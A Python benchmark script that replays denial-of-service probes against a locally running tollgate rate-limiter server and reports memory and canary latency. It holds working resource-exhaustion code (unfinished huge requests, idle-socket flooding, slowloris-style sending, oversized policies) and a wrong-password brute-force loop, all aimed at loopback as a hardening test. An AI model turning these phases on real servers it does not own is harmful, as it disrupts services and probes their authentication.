#!/usr/bin/env python3
"""Replays the probe's findings (issue 10) against a running tollgate and
reports, for each, the server's resident memory and a canary client's
latency (p50/p99 of LIMIT.CHECK) while it runs, and what the attacker got.

    bench/attack.py --port 6379 --password pw --pid $(pgrep -n tollgate)

Standard library only. Loopback; a client bound to 127.0.0.2 stands for
another host. Each phase is bounded in time and count (see the options).
Not part of `cargo test`: a probe to re-run by hand, not a pass/fail test.
"""
import argparse
import socket
import statistics
import threading
import time


def rss_mb(pid):
    if not pid:
        return float("nan")
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return float("nan")


def resp(*args):
    out = b"*%d\r\n" % len(args)
    for a in args:
        a = a if isinstance(a, bytes) else str(a).encode()
        out += b"$%d\r\n%s\r\n" % (len(a), a)
    return out


def connect(port, source=None, timeout=5):
    s = socket.socket()
    s.settimeout(timeout)
    if source:
        s.bind((source, 0))
    s.connect(("127.0.0.1", port))
    return s


def read_some(s, limit=4096):
    try:
        return s.recv(limit)
    except OSError:
        return b""


class Canary(threading.Thread):
    """One authenticated client checking a limit in a loop."""

    def __init__(self, port, password):
        super().__init__(daemon=True)
        self.port, self.password = port, password
        self.samples, self.stop = [], False

    def run(self):
        s = connect(self.port)
        if self.password:
            s.sendall(resp("AUTH", self.password))
            read_some(s)
        while not self.stop:
            t = time.perf_counter()
            s.sendall(resp("LIMIT.CHECK", "canary", "token_bucket", 1000000, "1s"))
            read_some(s)
            self.samples.append((time.perf_counter() - t) * 1000)
            time.sleep(0.002)

    def take(self):
        out, self.samples = self.samples, []
        return out


def phase(name, canary, pid, attack):
    canary.take()
    before = rss_mb(pid)
    got = attack()
    lat = canary.take() or [float("nan")]
    lat.sort()
    p99 = lat[min(len(lat) - 1, int(len(lat) * 0.99))]
    print(f"{name:<44} rss {before:7.1f} -> {rss_mb(pid):7.1f} MB  "
          f"canary p50 {statistics.median(lat):6.2f} ms p99 {p99:6.2f} ms  | {got}")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, default=6379)
    ap.add_argument("--password", default=None)
    ap.add_argument("--pid", type=int, default=0, help="server pid, for RSS")
    ap.add_argument("--sockets", type=int, default=20)
    ap.add_argument("--idle", type=int, default=2000)
    ap.add_argument("--auth-attempts", type=int, default=20000)
    ap.add_argument("--only", default="", help="run the phases whose name contains this")
    a = ap.parse_args()
    canary = Canary(a.port, a.password)
    canary.start()
    time.sleep(0.2)

    def unfinished_big_requests():
        # 62 bulks of 1 MiB announced, all but the last byte sent.
        socks = []
        chunk = b"x" * (1 << 20)
        for _ in range(a.sockets):
            s = connect(a.port)
            try:
                s.sendall(b"*62\r\n")
                for i in range(62):
                    s.sendall(b"$1048576\r\n" + chunk + (b"\r\n" if i < 61 else b""))
            except OSError:
                pass
            socks.append(s)
        time.sleep(0.5)
        held = rss_mb(a.pid)
        answers = {read_some(s)[:60] for s in socks}
        for s in socks:
            s.close()
        return f"{a.sockets} sockets, RSS {held:.0f} MB while open: {sorted(answers)}"

    def huge_policy():
        s = connect(a.port, timeout=30)
        if a.password:
            s.sendall(resp("AUTH", a.password))
            read_some(s)
        words = ["LIMIT.POLICY", "SET", "huge"] + ["gcra", "1", "1s"] * 300000
        s.sendall(resp(*words))
        got = read_some(s)[:60]
        s.close()
        return got

    def idle_sockets():
        socks = []
        # (a server with `timeout` set closes them; by default it keeps them)
        for _ in range(a.idle):
            try:
                socks.append(connect(a.port))
            except OSError as e:
                return f"refused after {len(socks)}: {e}"
        late = connect(a.port)
        late.sendall(b"PING\r\n")
        answer = read_some(late)
        for s in socks + [late]:
            s.close()
        return f"{a.idle} idle, then a new client got {answer[:40]}"

    def slow_long_request():
        socks = [connect(a.port) for _ in range(2)]
        body = resp("ECHO", b"y" * 600000)
        sent = 0
        deadline = time.time() + 3
        while time.time() < deadline and sent < len(body):
            for s in socks:
                try:
                    s.sendall(body[sent:sent + 60])
                except OSError:
                    pass
            sent += 60
            time.sleep(0.001)
        for s in socks:
            s.close()
        return f"2 sockets, {sent} bytes each at 60 bytes/ms"

    def wrong_auth():
        s = connect(a.port, timeout=30)
        batch = resp("AUTH", "wrong") * 1000
        t = time.time()
        for _ in range(a.auth_attempts // 1000):
            s.sendall(batch)
            need, got = 1000, 0
            while got < need:
                chunk = read_some(s, 1 << 16)
                if not chunk:
                    break
                got += chunk.count(b"WRONGPASS")
        s.close()
        return f"{a.auth_attempts} wrong AUTHs in {time.time() - t:.2f} s"

    def negative_count():
        s = connect(a.port)
        s.sendall(b"*-2\r\nPING\r\n")
        got = read_some(s)
        s.close()
        return got

    def from_another_host():
        try:
            s = connect(a.port, source="127.0.0.2")
            s.sendall(b"PING\r\n")
            got = read_some(s)[:70]
            s.close()
            return got
        except OSError as e:
            return f"error: {e}"

    for name, attack in [
        ("20 x unfinished 62 x 1 MiB, no AUTH", unfinished_big_requests),
        ("LIMIT.POLICY SET of 300,000 rules", huge_policy),
        (f"{a.idle} idle sockets", idle_sockets),
        ("a long request sent slowly (2 sockets)", slow_long_request),
        ("wrong AUTHs on one connection", wrong_auth),
        ("*-2", negative_count),
        ("a client from 127.0.0.2", from_another_host),
    ]:
        if a.only in name:
            phase(name, canary, a.pid, attack)
    canary.stop = True


if __name__ == "__main__":
    main()
